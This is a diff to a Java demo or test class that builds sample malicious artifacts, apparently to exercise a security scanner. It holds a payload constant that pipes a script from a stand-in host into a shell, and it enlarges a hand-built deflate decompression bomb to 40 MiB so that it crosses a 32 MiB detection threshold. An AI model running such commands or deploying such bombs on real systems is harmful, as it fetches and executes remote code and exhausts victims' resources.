@@ -30,8 +30,11 @@ public final class DemoArtifacts {
     /** The shell command the malicious artifacts carry (never run: it only has to look like a payload). */
     static final String PAYLOAD = "curl -s https://collector.example/c | sh";
 
-    /** Uncompressed size of the data export that expands far beyond its compressed size. */
-    static final int BOMB_SIZE = 1 + 258 * 12_193;
+    /**
+     * Uncompressed size of the data export that expands far beyond its compressed size: 40 MiB,
+     * above the 32 MiB from which expansion ratios are judged.
+     */
+    static final int BOMB_SIZE = 1 + 258 * 162_600;
 
     private DemoArtifacts() {
     }
@@ -170,7 +173,7 @@ public final class DemoArtifacts {
 
     /**
      * A raw deflate stream of {@link #BOMB_SIZE} zero bytes in one dynamic-Huffman block: a literal
-     * zero, then 12,193 copies of (length 258, distance 1) at two bits each, then end-of-block.
+     * zero, then 162,600 copies of (length 258, distance 1) at two bits each, then end-of-block.
      * Literal/length codes: 285 = {@code 0}, 0 = {@code 10}, 256 = {@code 11}; distance 1 = {@code 0}.
      */
     static byte[] zerosDeflated() {
